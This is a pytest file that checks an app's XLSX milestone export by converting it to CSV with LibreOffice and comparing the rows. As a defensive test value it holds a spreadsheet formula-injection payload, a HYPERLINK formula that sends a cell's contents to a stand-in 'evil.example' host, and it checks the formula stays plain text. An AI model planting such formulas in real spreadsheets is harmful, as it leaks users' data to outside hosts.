"""The XLSX export as another spreadsheet program reads it: LibreOffice (Debian's
libreoffice-calc-nogui, which scripts/test installs) converts it to CSV, and every row comes
back with its title, owner side, team, date and status; formula-like text stays text."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.api.conftest import download
from tests.conftest import Api
from tests.server import in_ci

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    message = "LibreOffice is not installed (apt-get install libreoffice-calc-nogui)"
    if in_ci():
        pytest.fail(f"{message}. CI reads the XLSX export back with it, so this fails.")
    pytest.skip(message)


def libreoffice_csv(program: str, xlsx: bytes, folder: Path) -> list[list[str]]:
    """The first sheet of `xlsx` as LibreOffice writes it to CSV (UTF-8, comma)."""
    source = folder / "plan.xlsx"
    source.write_bytes(xlsx)
    subprocess.run(
        [
            program,
            # A profile of this test's own: parallel runs don't share (and lock) one.
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return list(csv.reader(io.StringIO((folder / "plan.csv").read_text(encoding="utf-8"))))


def test_libreoffice_reads_the_xlsx_export_back_with_the_same_rows_and_dates(
    owner_api: Api, rich_plan: dict[str, Any], tmp_path: Path
) -> None:
    program = soffice()
    added = owner_api.post(
        f"/plans/{rich_plan['id']}/milestones",
        {"title": FORMULA, "owner_side": "buyer", "due_date": "2027-01-05"},
    )
    assert added.status_code == 201, added.json_body
    milestones = owner_api.get(f"/plans/{rich_plan['id']}").json_body["milestones"]
    response = download(owner_api, f"/plans/{rich_plan['id']}/export?format=xlsx")
    assert response.status_code == 200

    header, *rows = libreoffice_csv(program, response.content, tmp_path)

    assert header[:6] == [
        "Milestone",
        "Owner side",
        "Owner team",
        "Owner person",
        "Due date",
        "Status",
    ]
    sides = {"buyer": "Buyer", "seller": "Seller", "joint": "Buyer + Seller"}
    statuses = {"done": "Done", "not_started": "Not started", "in_progress": "In progress"}
    assert [(r[0], r[1], r[2], r[4], r[5]) for r in rows] == [
        (
            m["title"],
            sides[m["owner_side"]],
            m["owner_team"],
            m["due_date"] or "",
            statuses[m["status"]],
        )
        for m in milestones
    ]
    # LibreOffice did not evaluate the formula-like title: it is the text itself.
    assert rows[-1][0] == FORMULA
